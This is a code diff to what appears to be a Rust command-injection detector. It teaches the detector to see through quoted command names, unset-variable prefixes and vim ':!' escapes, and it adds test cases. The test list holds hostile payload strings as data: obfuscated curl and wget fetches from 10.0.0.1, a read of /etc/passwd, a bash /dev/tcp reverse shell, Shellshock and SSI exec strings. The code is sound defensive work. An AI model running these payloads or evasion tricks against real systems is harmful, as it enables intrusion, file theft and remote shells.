@@ -306,9 +306,14 @@ fn wrapped_candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead, depth: u8)
     let Some(start) = skip_lead(text, i) else {
         return 0;
     };
-    let Some((strength, flags, end)) = command_at(cased, text, start) else {
+    let Some((strength, flags, mut end)) = command_at(cased, text, start) else {
         return 0;
     };
+    // `'curl' http://…`: the quote that opened the name closes it; what follows is the argument.
+    let quote = lc(text, end);
+    if matches!(quote, b'\'' | b'"') && start > 0 && lc(text, start - 1) == quote {
+        end += 1;
+    }
     let mut arg = argument(text, end, flags).max(subcommand(text, start, end));
     // `ansible all -m ping`: an unmistakable command with a flag a little further on.
     if arg == 0 && strength == 3 && later_flag(text, end) {
@@ -380,16 +385,28 @@ fn subcommand(text: &[u8], start: usize, end: usize) -> u8 {
     }
 }
 
-/// Skips blanks, quotes and `(` before a command name; `None` if too many.
+/// Skips blanks, quotes, `(` and an unset variable (`|$u wget`) before a command name; `None` if too many.
 fn skip_lead(text: &[u8], mut i: usize) -> Option<usize> {
     let start = i;
-    while matches!(lc(text, i), b' ' | b'\t' | b'\'' | b'"' | b'(') {
-        i += 1;
+    loop {
+        match lc(text, i) {
+            b' ' | b'\t' | b'\'' | b'"' | b'(' => i += 1,
+            b'$' if lc(text, i + 1).is_ascii_alphabetic() => {
+                let mut j = i + 1;
+                while is_word(lc(text, j)) && j - i < 8 {
+                    j += 1;
+                }
+                if !matches!(lc(text, j), b' ' | b'\t') {
+                    return Some(i);
+                }
+                i = j;
+            }
+            _ => return Some(i),
+        }
         if i - start > MAX_LEAD_SKIP {
             return None;
         }
     }
-    Some(i)
 }
 
 /// Whether only blanks and quotes follow `i`.
@@ -562,7 +579,7 @@ fn flag(text: &[u8], i: usize) -> u8 {
     }
     let ends = matches!(
         lc(text, j),
-        0 | b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\n' | b'}' | b')' | b',' | b'`'
+        0 | b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\n' | b'}' | b')' | b',' | b'`' | b':'
     );
     if j > start && ends && lc(text, start).is_ascii_alphabetic() {
         3
@@ -665,6 +682,9 @@ mod tests {
             ";c${u}url http://10.0.0.1/x",
             "{,ifconfig,-a}",
             ";c$?at /etc/passwd",
+            ";'curl' http://10.0.0.1/x",
+            "|$u wget http://10.0.0.1/x",
+            ";vim -c:!pwd",
             "() { :;}; echo vulnerable",
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "<!--#exec cmd=\"ls\"-->",
